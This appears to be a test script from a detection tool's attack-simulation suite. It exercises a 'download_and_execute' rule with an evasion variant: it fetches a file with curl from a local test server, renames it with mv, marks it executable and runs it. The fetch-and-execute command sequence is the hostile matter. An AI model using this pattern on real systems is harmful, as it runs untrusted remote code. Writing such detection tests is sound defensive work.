# technique: T1105 the download is renamed (mv) before it runs: the new name keeps its writer
# rule: download_and_execute
# evasion-of: 100_curl_download_run
# exe: /tmp/vg-attacks-*/tool
. "$(dirname "$0")/common.bash"
fetchable tool
serve_dir "$VG_TMP/www"
curl -sf -o "$VG_TMP/tool.part" "http://127.0.0.1:$VG_PORT/tool"
mv "$VG_TMP/tool.part" "$VG_TMP/tool"
chmod +x "$VG_TMP/tool"
"$VG_TMP/tool"
